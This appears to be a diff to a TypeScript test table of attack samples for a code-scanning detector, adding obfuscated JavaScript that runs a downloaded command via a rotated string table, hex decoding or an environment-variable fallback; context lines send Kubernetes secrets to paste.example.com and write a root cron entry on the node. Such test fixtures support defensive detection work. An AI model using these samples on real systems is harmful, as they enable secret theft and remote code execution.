@@ -107,6 +107,18 @@ const ATTACKS: Readonly<Record<string, readonly [code: string, wanted: string]>>
     `const k=require('@kubernetes/client-node');const c=new k.KubeConfig();c.loadFromCluster();const a=c.makeApiClient(k.CoreV1Api);a.listSecretForAllNamespaces().then(r=>fetch('https://paste.example.com/a',{method:'POST',body:JSON.stringify(r)}))`,
     'send credentials to paste.example.com',
   ],
+  'a table of texts that is turned': [
+    `var t=['child_process','${FETCH}','exec'];(function(a,b){for(let i=0;i<b;i++){a.push(a.shift())}})(t,2);require(t[1])[t[0]](t[2])`,
+    'execute downloaded',
+  ],
+  'a text in hexadecimal, digit by digit': [
+    `const h='${hex.join('')}';let s='';for(let i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));require('child_process').exec(s)`,
+    'execute decoded',
+  ],
+  'a value with a way out': [
+    `const {exec}=require('child_process');exec(process.env.CMD||'${FETCH}')`,
+    'execute downloaded',
+  ],
   'a cron entry on the node': [
     `require('fs').writeFileSync('/host/etc/cron.d/a', '* * * * * root id')`,
     'write /host/etc/cron.d/a on the node',
